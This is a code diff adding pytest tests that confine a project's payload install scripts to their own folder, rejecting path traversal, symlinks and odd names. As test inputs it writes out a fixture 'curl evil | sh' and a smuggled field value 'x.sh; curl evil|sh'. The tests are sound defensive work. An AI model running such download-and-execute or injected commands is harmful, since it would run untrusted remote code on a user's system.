@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import ast
+import re
 import shutil
 import subprocess
 import sys
@@ -206,3 +207,43 @@ def test_every_referenced_json_config_is_valid():
 
     for path in ROOT.rglob("*.json"):
         json.loads(path.read_text())
+
+
+@pytest.mark.parametrize("name", NAMES)
+def test_shipped_payload_paths_stay_in_their_folder(name):
+    """Install scripts, run scripts and metric files are plain relative paths; no link leads out."""
+    m = load_payload(name)
+    payloads.check_folder(name, m.dir)
+    for steps in m.install.values():
+        for script in (steps.build, steps.runtime):
+            if script:
+                assert payloads.REL_PATH.fullmatch(script) and payloads.inside(m.dir, script, "x").is_file()
+    assert all(payloads.REL_PATH.fullmatch(x.file) for x in m.metrics if x.file)
+
+
+def test_a_payload_name_is_never_a_path(tmp_path, monkeypatch):
+    """`../x` is refused before the file system is asked, even when ../x/payload.toml exists."""
+    (tmp_path / "x").mkdir()
+    (tmp_path / "x" / "payload.toml").write_text('description = "outside"\n')
+    (tmp_path / "payloads").mkdir()
+    monkeypatch.setattr(payloads, "payloads_root", lambda: tmp_path / "payloads")
+    for name in ("../x", "/x", "-x", ".x", "x y"):
+        with pytest.raises(UsageError, match=f"unknown payload {re.escape(repr(name))}"):
+            load_payload(name)
+
+
+def test_install_paths_are_confined(tmp_path, monkeypatch):
+    root = tmp_path / "payloads"
+    bad = root / "broken"
+    bad.mkdir(parents=True)
+    (tmp_path / "secret.sh").write_text("curl evil | sh\n")
+    (bad / "link.sh").symlink_to(tmp_path / "secret.sh")
+    monkeypatch.setattr(payloads, "payloads_root", lambda: root)
+    where = "payloads/broken/payload.toml: install.cpu.build"
+    for script, message in (("../secret.sh", "expected a file in the payload folder"),
+                            ("x.sh; curl evil|sh", "expected a file in the payload folder"),
+                            ("link.sh", "leads outside the payload folder"),
+                            ("nope.sh", "not found in the payload folder")):
+        (bad / "payload.toml").write_text(f'[install.cpu]\nbuild = "{script}"\n')
+        with pytest.raises(UsageError, match=f"^{re.escape(where)} {re.escape(repr(script))}.*{message}"):
+            load_payload("broken")
